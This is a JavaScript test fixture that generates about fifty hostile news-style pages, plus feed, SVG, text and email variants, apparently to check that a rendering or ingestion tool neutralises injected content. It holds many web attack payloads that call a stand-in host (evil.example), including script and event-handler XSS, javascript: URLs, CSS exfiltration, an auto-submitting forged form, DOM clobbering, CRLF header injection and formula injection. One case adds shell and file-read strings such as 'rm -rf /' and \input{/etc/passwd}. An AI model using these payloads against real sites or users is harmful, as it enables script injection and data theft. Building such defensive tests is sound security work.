// Pages that mean harm: each a sort of attack on whoever reads the record. What they try would be seen: `owned()` is
// called, an element with the attribute `data-owned` is there, or something is asked of evil.example.

const escaped = (text) => text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");
const RUN = "fetch('https://evil.example/'+(window.owned=1))";
const TAG = `<script data-owned>${RUN}</script>`;
const IMG = `<img data-owned src=x onerror="${RUN}">`;
const SVG = `<svg data-owned onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`;

/** A page in which every part may be bent; text is escaped, so that it reaches the room as text. */
function page(n, parts) {
  const p = {
    title: `Case ${n}`, outlet: "Hostile Herald", byline: "Mallory Quill", url: `https://herald.example/case/${n}`,
    section: "Town", who: "Mayor Ann Lee", quote: `harm number ${n} is done`, asked: `whether case ${n} will end`,
    head: "", body: "", ...parts,
  };
  const e = Object.fromEntries(Object.entries(p).map(([k, v]) => [k, k === "head" || k === "body" ? v : escaped(v)]));
  return `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>${e.title}</title>
<meta property="og:title" content="${e.title}"><meta property="og:site_name" content="${e.outlet}">
<meta name="author" content="${e.byline}"><meta property="article:section" content="${e.section}">
<link rel="canonical" href="${e.url}"><meta property="article:published_time" content="2024-03-06T17:20:00Z">${e.head}</head>
<body><article><h1>${e.title}</h1><p>“The hostile harbour says ${e.quote},” ${e.who} said on Monday.</p>
<p>Asked ${e.asked}, ${e.who} declined to comment.</p><p>Harbour Master Tom Reed denied that ${e.quote}.</p>${e.body}</article></body></html>`;
}

const everywhere = (text) => ({ title: text, outlet: text, byline: text, section: text, quote: text, asked: `whether ${text} ends` });

const CASES = [
  ["a script in what is said", { quote: TAG }],
  ["a script in every part", everywhere(TAG)],
  ["a picture that fails, in every part", everywhere(IMG)],
  ["SVG with handlers, in every part", everywhere(SVG)],
  ["a script as a speaker's name", { who: `Minister Eve ${TAG} Stone` }],
  ["handlers as a speaker's name", { who: `Minister "onmouseover="${RUN}" Stone` }],
  ["the end of an attribute, both marks", everywhere(`x" onfocus="${RUN}" autofocus y' onclick='${RUN}' z`)],
  ["an attribute without marks", everywhere(`x onpointerenter=${RUN} style=position:fixed;inset:0`)],
  ["a javascript: address", { url: `javascript:${RUN}` }],
  ["a javascript: address in disguise", { url: ` java\tscript:${RUN}//https://herald.example/` }],
  ["a data: address", { url: `data:text/html,${TAG}` }],
  ["a vbscript: address", { url: "vbscript:msgbox(1)" }],
  ["an address with marks and spaces", { url: `https://evil.example/"onclick="${RUN}"x='>${TAG}` }],
  ["an address with a name before the host", { url: "https://courier.example@evil.example/%0d%0aSet-Cookie:%20a=b" }],
  ["an address of Unicode look-alikes", { url: "https://сourier.example/\u202Egpj.exe" }],
  ["templates of many sorts", everywhere(`{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %> #{${RUN}} [[${RUN}]]`)],
  ["ends of elements that hold raw text", everywhere(`</title></textarea></style></noscript></script>${IMG}`)],
  ["comments and sections", everywhere(`--><!--><![CDATA[>${IMG}]]><?php ${RUN} ?>`)],
  ["U+2028 and U+2029", everywhere(`line\u2028${RUN}\u2029//`)],
  ["bidirectional controls", everywhere("\u202Eevil\u202C \u2066\u2067turned\u2069 \u202Dround \u2068open")],
  ["zero widths, joiners and tags", everywhere("z\u200Be\u200Dr\uFEFFo\u00AD\u{E0041}\u{E007F}")],
  ["controls and NUL", everywhere("bell\u0007 back\u0008 escape\u001B[31m delete\u007F next\u0085 nul\u0000")],
  ["a tower of combining marks", everywhere(`Z${"\u0335\u0321\u034F".repeat(60)}algo`)],
  ["a base element and frames", { head: '<base href="https://evil.example/" target="_top">', body: `<iframe data-owned src="https://evil.example/f"></iframe><frameset><frame src="javascript:${RUN}"></frameset>` }],
  ["a refresh to elsewhere", { head: '<meta http-equiv="refresh" content="0;url=https://evil.example/r">', ...everywhere('<meta http-equiv="refresh" content="0;url=https://evil.example/r">') }],
  ["a policy of its own", { head: `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`, body: TAG }],
  ["styles that load, cover and read", { head: "<style>@import 'https://evil.example/c';*{position:fixed;inset:0;background:url(https://evil.example/b)}input[value^=a]{background:url(https://evil.example/a)}</style>", ...everywhere("<style>@import 'https://evil.example/c';</style>") }],
  ["an inline style that loads", { body: '<p style="background:url(https://evil.example/s);position:fixed;inset:0" data-owned>The town is covered, Mayor Ann Lee said.</p>' }],
  ["forms and buttons", { body: `<form action="https://evil.example/p" method="post"><input name="q" autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">The form is sent, Mayor Ann Lee said.</button></form>` }],
  ["a form for our own addresses", { body: '<form action="/decide/retract" method="post"><input name="id" value="0"><button>x</button></form><script>document.forms[0].submit()</script>' }],
  ["objects, embeds, portals", { body: `<object data="https://evil.example/o" data-owned></object><embed src="https://evil.example/e"><applet code=x></applet><video src="https://evil.example/v" autoplay onerror="${RUN}"></video><audio src="https://evil.example/u" autoplay></audio>` }],
  ["links that run", { body: `<p><a href="javascript:${RUN}" data-owned ping="https://evil.example/ping">The link is blue</a>, Mayor Ann Lee said.</p>` }],
  ["prefetching and preloading", { head: '<link rel="prefetch" href="https://evil.example/1"><link rel="preload" as="script" href="https://evil.example/2"><link rel="dns-prefetch" href="//evil.example"><link rel="stylesheet" href="https://evil.example/3"><link rel="manifest" href="https://evil.example/4"><script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/5"]}]}</script>' }],
  ["names that shadow the document's", { body: '<img name="getElementById" id="q" data-owned><form name="body" id="main"></form><a id="here" name="createElement"></a>', quote: 'id="q" name="q"' }],
  ["MathML and foreign content", { body: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`, ...everywhere(`<math href="javascript:${RUN}">x</math>`) }],
  ["a template and a shadow root", { body: `<template shadowrootmode="open"><img src=x onerror="${RUN}"></template><slot data-owned>The slot is open, Mayor Ann Lee said.</slot>` }],
  ["JSON-LD that breaks out", { head: `<script type="application/ld+json">{"@type":"NewsArticle","headline":"</scr\\u0069pt>${IMG.replaceAll('"', "'")}","author":{"name":"\\u003cscript data-owned\\u003e${RUN}\\u003c/script\\u003e"},"url":"javascript:${RUN}","__proto__":{"owned":1}}</script>` }],
  ["marks of our own pages", everywhere('<mark id="here">real</mark> <a class="proof" href="/statement/00">Proof</a> Proved just now.')],
  ["cells of a table of figures", everywhere("=HYPERLINK(\"https://evil.example\",\"x\") @SUM(1) +1 -1")],
  ["TeX and shell", everywhere("\\input{/etc/passwd} $(touch owned) `id` '; rm -rf / #")],
  ["a very long word", { title: "W".repeat(3_000), outlet: "O".repeat(3_000), who: `Mayor Ann ${"L".repeat(900)}ee`, quote: "q".repeat(5_000) }],
  ["addresses with line ends", { title: "Split\r\nSet-Cookie: a=b\r\n\r\n<html>", url: "https://herald.example/x\r\nLocation: https://evil.example/" }],
];

/** Name and bytes of each. */
export const HOSTILE = [
  ...CASES.map(([, parts], n) => [`${String(n).padStart(2, "0")}.html`, page(n, parts)]),
  ["50-feed.html", `<?xml version="1.0"?><rss version="2.0"><channel><title>${escaped(TAG)}</title><item><title><![CDATA[${TAG}]]></title>
<link>javascript:${RUN}</link><description><![CDATA[<p>The hostile harbour feeds on ${IMG}, Mayor Ann Lee said.</p>]]></description></item></channel></rss>`],
  ["51-utf7.html", "<html><head><meta charset='utf-7'><title>Utf</title></head><body><article><h1>Seven</h1><p>The hostile harbour has +ADw-script+AD4-owned()+ADw-/script+AD4-, Mayor Ann Lee said.</p></article></body></html>"],
  ["52-utf16.html", Buffer.from(`\uFEFF${page(52, everywhere(TAG))}`, "utf16le")],
  ["53-late.html", Buffer.concat([Buffer.from(page(53, {}).replace('<meta charset="utf-8">', '<meta charset="shift_jis">')), Buffer.from([0x81]), Buffer.from(`"><p>The hostile harbour is late, Mayor Ann Lee said.</p>${IMG}`)])],
  ["54-svg.html", `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><article><p>The hostile harbour is drawn, Mayor Ann Lee said.</p>${IMG}</article></body></foreignObject></svg>`],
  ["55-text.txt", `Hostile text\n\nThe hostile harbour says ${TAG}, Mayor Ann Lee said.\n\n${IMG}\n\n[a](javascript:${RUN}) said Mayor Ann Lee.\n`],
  ["56-mail.eml", `From: "${TAG}" <a@evil.example>\nSubject: ${IMG}\nContent-Type: text/plain\n\nThe hostile harbour mails ${TAG}, Mayor Ann Lee said.\n`],
];

/** What each case is. */
export const NAMES = new Map(CASES.map(([name], n) => [`${String(n).padStart(2, "0")}.html`, name]));
